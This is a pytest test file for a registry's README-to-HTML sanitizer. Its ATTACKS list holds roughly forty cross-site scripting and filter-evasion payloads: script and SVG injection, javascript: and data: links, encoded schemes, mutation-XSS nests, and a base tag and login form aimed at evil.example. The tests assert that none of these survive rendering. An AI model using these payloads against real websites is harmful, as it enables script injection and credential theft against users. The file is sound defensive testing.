"""registry.core.readme: what a stranger's README may and may not put on the page."""

from __future__ import annotations

import re

import pytest

from registry.core.readme import render_readme

FORGE = "https://github.com/acme/web/blob/main/"

# After the OWASP filter evasion sheet and the sanitizer tables of other projects: none of it may survive in any form.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://x.example/y.png onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0' class=navbar id=log-in>x</div>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='x' target=_blank onclick=alert(1) hx-get=/logout data-hx-post=/x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")<b title="x" onclick=alert(1)>y</b>',
    '![a](https://a.example/"onerror=alert(1)//x.png)',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "\x00<scr\x00ipt>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "noscript",
    "xmp",
    "body",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("forge_url", ["", FORGE])
def test_it_lets_nothing_script_or_pose_as_the_page(attack: str, forge_url: str) -> None:
    """Invariant 11: nothing a repository contains can script in a browser."""
    html = render_readme(f"# Title\n\n{attack}\n\nThe end.", forge_url=forge_url)
    for name, rest in TAG.findall(html):
        assert name.lower() not in FORBIDDEN, html
        bare = re.sub(r'"[^"]*"', '""', rest)
        assert not re.search(r"\b(on\w+|style|class|id|name|target|srcdoc|formaction|(data-)?hx-\w+)\s*=", bare), html
    for url in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert url.startswith(("https://", "http://", "mailto:")), html
    assert "<h2>Title</h2>" in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**b** ~~s~~ `c`", "<p><strong>b</strong> <s>s</s> <code>c</code></p>"),
        ("# One\n\n###### Six", "<h2>One</h2>\n<h6>Six</h6>"),
        (
            "[x](https://a.example/?a=1&b=2)",
            '<a href="https://a.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">',
        ),
        ("<me@a.example>", 'href="mailto:me@a.example"'),
        ("```python\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("|a|\n|:-:|\n|1|", '<th align="center">a</th>'),
        ("<p align=center>x</p>", '<p align="center">x</p>'),
        ("<details><summary>s</summary>\n\n**b**\n\n</details>", "<summary>s</summary>\n<p><strong>b</strong></p>"),
        ("1 &lt; 2 &copy;", "<p>1 &lt; 2 ©</p>"),
        ("", ""),
    ],
)
def test_it_renders_what_readmes_are_made_of(markdown: str, html: str) -> None:
    assert html in render_readme(markdown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("![logo](https://a.example/x.png)", 'src="https://a.example/x.png"'),
        ("![logo](http://a.example/x.png)", 'alt="logo"'),
        ("![logo](docs/x.png)", 'alt="logo"'),
        ("![logo](//a.example/x.png)", 'alt="logo"'),
        ('<img src="https://a.example/x.png" width="100%" height="1e9">', 'width="100%"'),
    ],
)
def test_it_loads_images_from_https_alone(markdown: str, html: str) -> None:
    image = render_readme(markdown, forge_url=FORGE)
    assert html in image
    assert 'referrerpolicy="no-referrer"' in image
    assert ("src=" in image) == ("https:" in markdown)
    assert "1e9" not in image


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("docs/use.md", f"{FORGE}docs/use.md"),
        ("./docs/use.md#a", f"{FORGE}docs/use.md#a"),
        ("/LICENSE", f"{FORGE}LICENSE"),
        ("../../settings", None),
        ("//evil.example/x", None),
        ("/\\evil.example/x", f"{FORGE}%5Cevil.example/x"),
        ("#install", None),
        ("?tab=x", f"{FORGE}?tab=x"),
    ],
)
def test_it_leads_relative_links_into_the_repository_and_no_further(link: str, target: str | None) -> None:
    html = render_readme(f"[x](<{link}>)", forge_url=FORGE)
    assert re.findall(r'href="([^"]*)"', html) == ([target] if target else [])
    assert "href" not in render_readme(f"[x](<{link}>)")


@pytest.mark.parametrize(
    "part", ["[", "![", "*a ", "_a*", "`", "> ", "<", "<a ", "[a](", "|a", "- ", "&", "a\n", "<!--", "\\", "<b>"]
)
def test_it_comes_to_an_end_with_a_readme_made_to_have_none(part: str) -> None:
    assert isinstance(render_readme(part * (6_000 // len(part))), str)


def test_it_takes_no_backslash_for_a_path() -> None:
    assert "href" not in render_readme(r'<a href="..\..\settings">x</a>', forge_url=FORGE)


def test_it_cuts_what_is_too_long() -> None:
    assert len(render_readme("a" * 1_000_000)) < 300_000
